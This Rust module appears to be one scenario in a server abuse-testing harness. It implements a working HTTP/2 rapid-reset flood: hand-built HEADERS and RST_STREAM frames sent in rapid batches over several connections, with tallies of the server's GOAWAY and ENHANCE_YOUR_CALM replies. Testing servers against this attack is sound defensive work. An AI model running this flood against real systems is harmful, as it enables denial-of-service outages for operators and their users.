//! HTTP/2 rapid reset: each stream is reset as soon as it is opened, so that no limit on open streams is ever met.
//!
//! Frames are written by hand: a client library would hold back what is reset before it is sent.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::raw;
use super::scenario::Abuser;

const CONNECTIONS: u64 = 10;
/// Streams that are opened and reset in one write.
const BATCH: u32 = 100;
/// From one write to the next on one connection: 10 × 100 streams in 50 ms are 20,000 in a second.
const PAUSE: Duration = Duration::from_millis(50);
/// Streams in all on one connection; their numbers end somewhere.
const STREAMS: u32 = 1_000_000;

pub(super) const GOAWAY_CALM: &str = "GOAWAY ENHANCE_YOUR_CALM";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const ENHANCE_YOUR_CALM: u32 = 11;

pub(super) async fn run(abuser: &Arc<Abuser>) {
    let mut connections = JoinSet::new();
    for index in 0..CONNECTIONS {
        let abuser = Arc::clone(abuser);
        connections.spawn(async move {
            while !abuser.is_over() {
                connect(&abuser, raw::FIRST_ID + index).await;
                sleep(PAUSE).await;
            }
        });
    }
    connections.join_all().await;
}

async fn connect(abuser: &Abuser, id: u64) {
    let Ok(stream) = TcpStream::connect(abuser.target).await else {
        abuser.count("refused");
        return;
    };
    abuser.count("connections");
    let (mut reader, mut writer) = stream.into_split();
    let flood = async {
        let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        push_frame(&mut hello, SETTINGS, 0, 0, &[]);
        push_frame(&mut hello, SETTINGS, 1, 0, &[]);
        let block = field_block(abuser, id);
        let _ = writer.write_all(&hello).await;
        for first in (0..STREAMS).step_by(BATCH as usize) {
            let mut frames = Vec::new();
            for stream in first..first + BATCH {
                push_frame(&mut frames, HEADERS, 5, stream * 2 + 1, &block);
                push_frame(&mut frames, RST_STREAM, 0, stream * 2 + 1, &8_u32.to_be_bytes());
            }
            if abuser.is_over() || writer.write_all(&frames).await.is_err() {
                break;
            }
            abuser.add("streams reset", u64::from(BATCH));
            sleep(PAUSE).await;
        }
    };
    let answers = count_frames(abuser, &mut reader);
    tokio::pin!(answers);
    tokio::select! {
        () = flood => {
            // The last word may still be under way.
            let _ = timeout(Duration::from_secs(1), answers).await;
        }
        () = &mut answers => {}
    }
}

/// Reads until the connection ends.
async fn count_frames(abuser: &Abuser, reader: &mut OwnedReadHalf) {
    let mut head = [0; 9];
    while reader.read_exact(&mut head).await.is_ok() {
        let [high, middle, low, kind, ..] = head;
        let length = u32::from_be_bytes([0, high, middle, low]);
        let mut payload = vec![0; length as usize];
        if reader.read_exact(&mut payload).await.is_err() {
            return;
        }
        match kind {
            HEADERS => abuser.count("answers"),
            RST_STREAM => abuser.count("RST_STREAM"),
            GOAWAY => {
                let code = payload.get(4..8).and_then(|code| code.try_into().ok()).map(u32::from_be_bytes);
                match code {
                    Some(ENHANCE_YOUR_CALM) => abuser.count(GOAWAY_CALM),
                    code => abuser.count(&format!("GOAWAY {}", code.unwrap_or_default())),
                }
            }
            _ => {}
        }
    }
}

fn push_frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    out.extend_from_slice(&length);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// `GET /work/ID` by HPACK's static table (RFC 7541, appendix A), nothing of it remembered: `:method GET`, `:scheme http`,
/// then `:authority` and `:path` by the name's index with a literal value.
fn field_block(abuser: &Abuser, id: u64) -> Vec<u8> {
    let mut block = vec![0x82, 0x86];
    for (name, value) in [(0x01, abuser.target.to_string()), (0x04, format!("/work/{id}"))] {
        block.push(name);
        block.push(u8::try_from(value.len()).unwrap_or_default());
        block.extend_from_slice(value.as_bytes());
    }
    block
}
